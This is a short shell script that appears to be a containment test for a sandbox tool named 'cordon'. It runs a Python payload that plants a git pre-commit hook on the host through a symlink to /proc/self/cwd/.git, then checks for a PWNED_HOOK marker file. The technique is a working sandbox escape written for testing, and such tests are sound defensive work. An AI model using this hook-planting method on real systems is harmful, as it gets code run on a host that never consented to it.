#!/bin/sh
# F2 variant: .git present without hooks/ (absent protected directory):
# mkdir and write through a symlink to /proc/self/cwd/.git; the host's next
# `git commit` runs the run's pre-commit hook.
C=${CORDON:-/work/wt/attack/build/cordon}
T=$(mktemp -d /tmp/atk-hooks.XXXXXX); chmod 755 "$T"
cd "$T" && git init -q ws && cd ws && rm -rf .git/hooks
git -c user.email=a@b -c user.name=a commit -q --allow-empty -m i
cat > zz.py <<P
import os
os.symlink('/proc/self/cwd/.git', 'g')
os.mkdir('g/hooks')
open('g/hooks/pre-commit', 'w').write('#!/bin/sh\ntouch $T/PWNED_HOOK\n')
os.chmod('g/hooks/pre-commit', 0o755)
os.unlink('g')
P
"$C" run --report ../r.json -- python3 zz.py; rm zz.py
git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x
ls "$T/PWNED_HOOK" && echo "VULNERABLE: the run's pre-commit hook ran on the host ($(jq -r .verdicts.containment ../r.json))"
